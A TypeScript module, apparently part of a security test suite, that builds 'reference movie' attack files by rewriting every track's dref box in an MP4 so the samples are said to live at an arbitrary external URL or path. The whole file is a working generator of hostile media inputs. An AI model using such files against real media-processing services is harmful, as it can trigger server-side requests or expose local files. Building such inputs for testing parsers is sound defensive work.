// Builds the MP4 of a "reference movie" attack: every track's data reference box (moov/…/dinf/dref) replaced by one
// entry of our choosing, e.g. a `url ` entry without the self-contained flag saying the samples live in another file.
// The input is an MP4 as ffmpeg writes it, index (moov) after the media (mdat), so growing the index moves no sample.

const PATH_TO_DREF = new Set(['moov', 'trak', 'mdia', 'minf', 'dinf']);

interface Box {
  type: string;
  payload: Buffer;
}

function parse(buffer: Buffer): Box[] {
  const boxes: Box[] = [];
  for (let offset = 0; offset < buffer.length;) {
    const size = buffer.readUInt32BE(offset);
    if (size < 8) throw new Error(`box of size ${size} at ${offset}: only plain 32-bit box sizes are handled here`);
    boxes.push({ type: buffer.toString('latin1', offset + 4, offset + 8), payload: buffer.subarray(offset + 8, offset + size) });
    offset += size;
  }
  return boxes;
}

function serialise(type: string, payload: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + payload.length, 0);
  header.write(type, 4, 'latin1');
  return Buffer.concat([header, payload]);
}

export interface DataReferenceEntry {
  type: string;
  /** Bit 0 set: the samples are in this file. */
  flags: number;
  payload: Buffer;
}

/** dref: version 0, no flags, one entry (a full box itself: version 0 and the entry's flags). */
function dref(entry: DataReferenceEntry): Buffer {
  const versionAndFlags = Buffer.alloc(4);
  versionAndFlags.writeUIntBE(entry.flags, 1, 3);
  const count = Buffer.alloc(8);
  count.writeUInt32BE(1, 4);
  return serialise('dref', Buffer.concat([count, serialise(entry.type, Buffer.concat([versionAndFlags, entry.payload]))]));
}

function rewrite(boxes: Box[], entry: DataReferenceEntry): Buffer {
  return Buffer.concat(
    boxes.map(({ type, payload }) => {
      if (type === 'dref') return dref(entry);
      return serialise(type, PATH_TO_DREF.has(type) ? rewrite(parse(payload), entry) : payload);
    }),
  );
}

export function withDataReference(mp4: Buffer, entry: DataReferenceEntry): Buffer {
  const boxes = parse(mp4);
  const types = boxes.map((box) => box.type);
  if (types.indexOf('moov') < types.indexOf('mdat')) throw new Error('moov before mdat: rewriting it would move the samples');
  return rewrite(boxes, entry);
}

/** Tracks whose samples, the file says, are at `location`. */
export function withExternalDataReference(mp4: Buffer, location: string): Buffer {
  return withDataReference(mp4, { type: 'url ', flags: 0, payload: Buffer.from(`${location}\0`, 'utf8') });
}
